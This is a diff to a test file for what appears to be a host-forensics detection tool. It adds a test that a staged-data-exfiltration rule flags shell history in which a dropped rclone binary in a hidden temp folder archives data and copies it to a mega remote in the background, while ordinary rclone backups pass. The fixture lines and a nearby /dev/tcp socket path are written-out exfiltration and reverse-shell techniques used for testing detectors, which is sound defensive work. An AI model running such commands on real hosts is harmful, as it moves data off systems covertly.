@@ -146,6 +146,17 @@ test("ioc-match: bash's /dev/tcp named in a question is a technique, not an indi
   t.equal(findings(ioc?.evaluate(h, { entities: entities({ paths: ["/dev/tcp/10.0.0.5/5432"] }) }) ?? []).length, 1, "a specific socket named still is");
 });
 
+test("staged-data-exfiltration: rclone to a remote counts with a dropper's signs, not as a backup job", async (t) => {
+  const history = (...commands: string[]) => run("staged-data-exfiltration", host({ shell_history: commands.map((command) => ({ uid: "1000", time: "0", command, history_file: "/home/u/.bash_history" })) }));
+  const dropped = history("tar czf /var/tmp/.cache/es-snap.tgz -C /var/tmp/.cache snap", "nohup /var/tmp/.cache/rclone copy /var/tmp/.cache/es-snap.tgz mega:bkp --config /var/tmp/.cache/r.conf -q &");
+  t.equal(dropped.length, 1);
+  t.equal(dropped[0]?.severity, "high");
+  t.match(dropped[0]?.summary, /rclone itself run from \/var\/tmp\/\.cache\/rclone/);
+  t.match(dropped[0]?.summary, /mega:bkp/);
+  t.same(history("rclone sync /srv/backups b2:acme-backups --fast-list"), [], "a backup of a data directory to a bucket");
+  t.same(history("rclone copy /tmp/report.csv gdrive:reports"), [], "a packaged rclone copying a plain temp file: no dropper's sign");
+});
+
 test("listeners: a default port only when its default program holds it", async (t) => {
   const rows = (pid: number, port: number) => ({ pid: String(pid), port: String(port), protocol: "6", address: "0.0.0.0" });
   const shellOn9100 = run("unexpected-listener", host({ listening_ports: [rows(5, 9100)], processes: [proc(5, "bash", "/usr/bin/bash", "bash")] }));
